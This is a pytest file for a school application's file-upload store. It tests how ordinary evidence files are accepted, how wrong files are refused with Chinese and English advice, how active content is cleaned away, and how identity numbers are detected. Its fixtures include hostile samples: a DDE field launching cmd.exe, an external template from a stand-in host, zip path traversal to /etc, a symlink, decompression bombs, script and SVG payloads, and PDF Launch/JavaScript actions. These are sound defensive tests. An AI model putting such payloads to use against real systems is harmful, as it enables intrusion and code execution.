"""What is taken, what is refused with which advice, and what is cleaned away."""

import io
import stat
from collections.abc import Callable, Iterator
from pathlib import Path

import pikepdf
import pytest
from PIL import Image

from app.core import storage
from app.core.errors import Invalid, Sentence
from app.core.storage import EVIDENCE, WORKBOOK, Shelf, Use, papers
from app.core.storage.refusals import Refused
from tests.core.storage.sendings import (
    ID_NUMBER,
    excel,
    jpg,
    old_excel,
    pdf,
    png,
    png_that_says,
    repacked,
    with_attachment,
    with_description,
    with_form_program,
    with_launch,
    with_script,
    word,
)

RELATION = b"</Relationships>"
CONTENT_TYPES = "[Content_Types].xml"


@pytest.fixture(scope="module", autouse=True)
def checking() -> Iterator[None]:
    storage.warm()
    yield
    storage.close()


@pytest.fixture
def shelf(tmp_path: Path) -> Shelf:
    return Shelf(tmp_path)


def refusal(shelf: Shelf, content: bytes, name: str, use: Use = EVIDENCE) -> Sentence:
    """The sentence with which the file is refused; nothing of it is kept."""
    with pytest.raises(Invalid) as refused:
        shelf.put(io.BytesIO(content), name, use)
    assert [path for path in shelf.root.rglob("*") if path.is_file()] == []
    [(field, sentence)] = refused.value.sentences.items()
    assert field == "file"
    return sentence


@pytest.mark.parametrize(
    ("name", "content", "media_type"),
    [
        ("课堂.jpg", jpg(), "image/jpeg"),
        ("课堂.JPEG", jpg(mode="L"), "image/jpeg"),
        ("黑板.jpg", jpg(mode="CMYK"), "image/jpeg"),
        ("截图.png", png(), "image/png"),
        ("截图.png", png(mode="P"), "image/png"),
        ("扫描.png", png(mode="I;16"), "image/png"),
        ("方案.pdf", pdf("Plan 2026"), "application/pdf"),
        ("加密但不设打开密码.pdf", pdf("x", encryption=pikepdf.Encryption(owner="o", user="")), "application/pdf"),
        ("说明.docx", word("整改情况", table=("序号", "措施"), header="实验小学"), "wordprocessingml.document"),
        ("名单.xlsx", excel(), "spreadsheetml.sheet"),
        ("名单.csv", "学校,人数\r\n实验小学,120\r\n".encode("gb18030"), "text/csv"),
    ],
)
def test_ordinary_evidence_is_taken(shelf: Shelf, name: str, content: bytes, media_type: str) -> None:
    stored = shelf.put(io.BytesIO(content), name, EVIDENCE)

    assert stored.media_type.endswith(media_type)
    assert (stored.name, stored.original_size, stored.state) == (name, len(content), "ready")
    with shelf.open(stored.sha256) as served, shelf.open_original(stored.original_sha256) as original:
        assert len(served.read()) == stored.size
        assert original.read() == content


@pytest.mark.parametrize(("name", "content"), [("a.xls", old_excel()), ("a.xlsx", excel()), ("a.csv", b"a,b\n1,2\n")])
def test_workbooks_for_import_may_be_old_and_are_kept_as_they_came(shelf: Shelf, name: str, content: bytes) -> None:
    stored = shelf.put(io.BytesIO(content), name, WORKBOOK)

    assert stored.sha256 == stored.original_sha256
    with shelf.open(stored.sha256) as served:
        assert served.read() == content


@pytest.mark.parametrize(
    ("name", "content", "zh", "en"),
    [
        ("a.jpg", b"", "空文件", "empty"),
        ("a.svg", b"<svg onload=alert(1)>", "jpg、png、pdf、docx、xlsx、csv", "Use one of"),
        ("a.html", b"<script>alert(1)</script>", "不是可以上传的文件", "cannot be uploaded"),
        ("a.pdf.exe", b"MZ", "不是可以上传的文件", "cannot be uploaded"),
        ("没有扩展名", jpg(), "不是可以上传的文件", "cannot be uploaded"),
        ("a.xls", old_excel(), "不是可以上传的文件", "cannot be uploaded"),
        ("a.heic", b"\0\0\0\x18ftypheic", "另存为 JPG", "as JPG"),
        ("a.doc", b"\xd0\xcf\x11\xe0", "另存为 docx", "as docx"),
        ("a.docm", word(), "带有宏", "macros"),
        ("a.zip", repacked(word()), "解开后逐个上传", "Unpack"),
        ("a.jpg", png(), "内容不是JPG 图片", "not a JPG picture"),
        ("a.png", jpg(), "内容不是PNG 图片", "not a PNG picture"),
        ("a.pdf", b"<html><script>", "内容不是PDF", "not a PDF"),
        ("a.pdf", b"GIF89a" + pdf(), "内容不是PDF", "not a PDF"),
        ("a.docx", excel(), "内容不是Word 文档", "not a Word document"),
        ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 900, "内容不是Word 文档", "not a Word document"),
        ("a.docx", b"\xd0\xcf\x11\xe0" + "EncryptedPackage".encode("utf-16-le"), "去掉密码", "Remove it"),
        ("a.xlsx", word(), "另存为 xlsx", "save as xlsx"),
        ("a.csv", b"\x89PNG\r\n\x1a\n\0\0\0", "另存为 xlsx", "save as xlsx"),
        ("a.csv", b"<!doctype html><script>1</script>", "另存为 xlsx", "save as xlsx"),
        ("a.jpg", jpg()[:-200], "重新拍摄", "take it again"),
        ("a.jpg", b"\xff\xd8\xff\xe0", "重新拍摄", "take it again"),
        ("a.png", png_that_says(8000, 5001), "4000 万", "limit 40"),
        ("a.png", png_that_says(60000, 60000), "4000 万", "limit 40"),
        ("a.pdf", pdf()[:200], "重新导出", "Export it"),
        ("a.pdf", b"%PDF-1.7\n%%EOF", "重新导出", "Export it"),
        ("a.pdf", pdf("x", encryption=pikepdf.Encryption(owner="o", user="u")), "去掉密码", "Remove it"),
        ("a.pdf", pdf(*["x"] * 1001), "拆成几份", "Split it"),
    ],
)
def test_a_wrong_file_is_refused_with_advice(shelf: Shelf, name: str, content: bytes, zh: str, en: str) -> None:
    sentence = refusal(shelf, content, name)

    assert zh in sentence.zh and en in sentence.en
    assert name in sentence.zh and name in sentence.en


def test_a_file_over_the_limit_is_cut_off_while_it_is_read(shelf: Shelf) -> None:
    class Endless(io.RawIOBase):
        asked = 0

        def read(self, size: int = -1) -> bytes:
            Endless.asked += size
            return b"x" * size

    with pytest.raises(Invalid, match="最多 20 MB"):
        shelf.put(Endless(), "a.jpg", EVIDENCE)  # type: ignore[arg-type]
    assert Endless.asked <= 20 * 1024 * 1024 + 1
    with pytest.raises(Invalid, match="最多 1 MB"):
        shelf.put(io.BytesIO(b"x" * 1048577), "a.jpg", EVIDENCE, megabytes=1)


HOSTILE_WORD = {
    "macro": repacked(word(), add={"word/vbaProject.bin": b"x"}),
    "macro by type": repacked(
        word(),
        change={CONTENT_TYPES: (b"openxmlformats-officedocument.wordprocessingml.document.main", b"macroEnabled")},
    ),
    "embedded file": repacked(word(), add={"word/embeddings/oleObject1.bin": b"x"}),
    "embedded archive": repacked(word(), add={"word/media/image1.png": b"PK\x03\x04"}),
    "control": repacked(word(), add={"word/activeX/activeX1.xml": b"<x/>"}),
    "path upwards": repacked(word(), add={"../../etc/cron.d/x": b"x"}),
    "absolute path": repacked(word(), add={"/etc/passwd": b"x"}),
    "backslash": repacked(word(), add={"word\\x.xml": b"x"}),
    "twice the same": repacked(word(), add={"WORD/document.xml": b"<x/>"}),
    "link": repacked(word(), add={"word/link": b"/etc/passwd"}, mode=stat.S_IFLNK | 0o777),
    "bomb": repacked(word(), add={"word/media/image1.bmp": b"\0" * 30_000_000}),
    "many members": repacked(word(), add={f"word/media/{n}.png": b"x" for n in range(500)}),
    "entities": repacked(word(), add={"word/header9.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}),
    "foreign template": repacked(
        word(),
        change={
            "word/_rels/document.xml.rels": (
                RELATION,
                b'<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                b'attachedTemplate" Target="http://canary.example/x.dotm" TargetMode="External"/>' + RELATION,
            )
        },
    ),
    "commands in a field": repacked(
        word("FIELD"),
        change={
            "word/document.xml": (
                b"<w:t>FIELD</w:t>",
                b'<w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>',
            )
        },
    ),
    "no document": repacked(word(), change={"word/document.xml": (b"<w:body>", b"<w:body")}),
    "cut off": word()[:-100],
    "something before it": b"MZ" + word(),
}


@pytest.mark.parametrize("deed", HOSTILE_WORD)
def test_a_hostile_word_document_is_refused(shelf: Shelf, deed: str) -> None:
    sentence = refusal(shelf, HOSTILE_WORD[deed], "说明.docx")

    assert "再上传" in sentence.zh and "upload" in sentence.en


HOSTILE_EXCEL = {
    "macro": repacked(excel(), add={"xl/vbaProject.bin": b"x"}),
    "macro sheet": repacked(excel(), add={"xl/macrosheets/sheet1.xml": b"<x/>"}),
    "embedded file": repacked(excel(), add={"xl/embeddings/a.docx": b"x"}),
    "commands": repacked(
        excel(), add={"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}
    ),
    "foreign picture": repacked(
        excel(),
        add={
            "xl/drawings/_rels/drawing1.xml.rels": b'<Relationships><Relationship Id="r" Type="a/image" '
            b'Target="http://canary.example/x.png" TargetMode="External"/></Relationships>'
        },
    ),
    "bomb": repacked(excel(), add={"xl/media/image1.bmp": b"\0" * 30_000_000}),
}


@pytest.mark.parametrize("deed", HOSTILE_EXCEL)
def test_a_hostile_workbook_is_refused(shelf: Shelf, deed: str) -> None:
    assert "再上传" in refusal(shelf, HOSTILE_EXCEL[deed], "名单.xlsx").zh


def test_a_word_document_may_hold_hyperlinks_and_pictures(shelf: Shelf) -> None:
    linked = repacked(
        word(),
        add={"word/media/image1.png": png()},
        change={
            "word/_rels/document.xml.rels": (
                RELATION,
                b'<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                b'hyperlink" Target="http://school.example" TargetMode="External"/>' + RELATION,
            )
        },
    )

    assert shelf.put(io.BytesIO(linked), "说明.docx", EVIDENCE).state == "ready"


# Cleaning ------------------------------------------------------------------------------------------------------------


def test_a_photo_loses_its_place_and_comments_and_stands_upright(shelf: Shelf) -> None:
    sent = jpg(60, 40) + b"<script>canary appended</script>"
    stored = shelf.put(io.BytesIO(sent), "课堂.jpg", EVIDENCE)
    with shelf.open(stored.sha256) as served, shelf.open_original(stored.original_sha256) as original:
        copy, kept = served.read(), original.read()

    with Image.open(io.BytesIO(copy)) as picture:
        assert picture.size == (40, 60)
        assert not picture.getexif() and "comment" not in picture.info
    assert b"canary" not in copy and "金丝雀".encode() not in copy
    assert kept == sent and stored.original_sha256 != stored.sha256


def test_a_png_loses_its_texts(shelf: Shelf) -> None:
    stored = shelf.put(io.BytesIO(png() + b"canary appended"), "截图.png", EVIDENCE)
    with shelf.open(stored.sha256) as served:
        assert b"canary" not in served.read()


def test_what_a_pdf_reader_would_still_run_is_noticed_however_deep_it_lies() -> None:
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch)

    assert papers._acts(launch) and papers._acts(pikepdf.Array([pikepdf.Dictionary(A=pikepdf.Dictionary(Next=launch))]))
    assert papers._acts(pikepdf.Dictionary(JS=pikepdf.String("x"))) and papers._acts(pikepdf.Dictionary(EF=launch))
    assert not papers._acts(pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([1, 2])))


@pytest.mark.parametrize("change", [with_script, with_launch, with_attachment])
def test_a_pdf_that_cleaning_left_active_is_refused(
    change: Callable[[pikepdf.Pdf], None], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(papers, "_clean", lambda paper: None)

    with pytest.raises(Refused, match="打印为 PDF"):
        papers.cleaned(pdf("x", change=change), "方案.pdf")


@pytest.mark.parametrize("change", [with_script, with_launch, with_attachment, with_form_program, with_description])
def test_a_pdf_is_cleaned_of_what_acts(shelf: Shelf, change: object) -> None:
    sent = pdf("Plan 2026", change=change, object_stream_mode=pikepdf.ObjectStreamMode.disable)  # type: ignore[arg-type]
    stored = shelf.put(io.BytesIO(sent), "方案.pdf", EVIDENCE)
    with shelf.open(stored.sha256) as served:
        copy = served.read()

    with pikepdf.open(io.BytesIO(copy)) as paper:
        everything = b"".join(
            thing.unparse(resolved=True) + (thing.read_bytes() if isinstance(thing, pikepdf.Stream) else b"")
            for thing in paper.objects
            if not isinstance(thing, int)
        )
        assert len(paper.pages) == 1 and not paper.attachments
    assert b"canary" not in everything and b"cmd.exe" not in everything
    for word_ in (b"/JavaScript", b"/Launch", b"/EmbeddedFile", b"/XFA", b"/SubmitForm"):
        assert word_ not in everything


def test_the_same_picture_sent_twice_is_kept_once(shelf: Shelf) -> None:
    first, second = (shelf.put(io.BytesIO(jpg()), name, EVIDENCE) for name in ("a.jpg", "b.jpg"))

    assert first.sha256 == second.sha256
    assert len([path for path in shelf.root.rglob("*") if path.is_file()]) == 2


def test_a_picture_of_forty_million_pixels_is_taken_in_time(shelf: Shelf) -> None:
    assert shelf.put(io.BytesIO(jpg(8000, 5000, exif=False)), "全景.jpg", EVIDENCE).state == "ready"


# Identity numbers ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "zh", "en"),
    [
        ("a.docx", word("第一段", f"学生{ID_NUMBER}在读"), "1 处身份证号：第 2 段", "paragraph 2"),
        ("a.docx", word(table=("张三", "１１０１０５１９４９１２３１００２Ｘ")), "第 3 段", "paragraph 3"),
        ("a.docx", word(header=f"证号 {ID_NUMBER}"), "页眉", "header"),
        (
            "a.xlsx",
            excel((("姓名", "证号"), ("张三", ID_NUMBER), ("李四", "110105 19491231 0021"))),
            "工作表“名单”B2、工作表“名单”B3",
            "B3",
        ),
        ("a.csv", f"姓名,学籍号\n张三,G{ID_NUMBER[:-1]}1\n".encode(), "第 2 行第 2 列", "line 2, column 2"),
        ("a.pdf", pdf("Seite", f"Name {ID_NUMBER} x"), "第 2 页", "page 2"),
    ],
)
def test_evidence_with_identity_numbers_is_refused_and_the_places_named(
    shelf: Shelf, name: str, content: bytes, zh: str, en: str
) -> None:
    sentence = refusal(shelf, content, name)

    assert zh in sentence.zh and en in sentence.en
    assert "110105" not in sentence.zh and "请删去或遮住" in sentence.zh


def test_a_number_cut_into_pieces_by_the_word_processor_is_found(shelf: Shelf) -> None:
    cut = repacked(
        word(f"证号{ID_NUMBER}"),
        change={"word/document.xml": (ID_NUMBER.encode(), b"1101</w:t></w:r><w:r><w:t>0519491231002X")},
    )

    assert "第 1 段" in refusal(shelf, cut, "a.docx").zh


@pytest.mark.parametrize(
    "number", ["110105194913310021", "012345678901234567", "20261125080000123456789", "123456789012345678"]
)
def test_other_long_numbers_are_no_identity_numbers(shelf: Shelf, number: str) -> None:
    assert shelf.put(io.BytesIO(f"流水号\n{number}\n".encode()), "a.csv", EVIDENCE).state == "ready"


def test_rosters_for_import_may_hold_identity_numbers(shelf: Shelf) -> None:
    assert shelf.put(io.BytesIO(excel((("证号",), (ID_NUMBER,)))), "名单.xlsx", WORKBOOK).state == "ready"
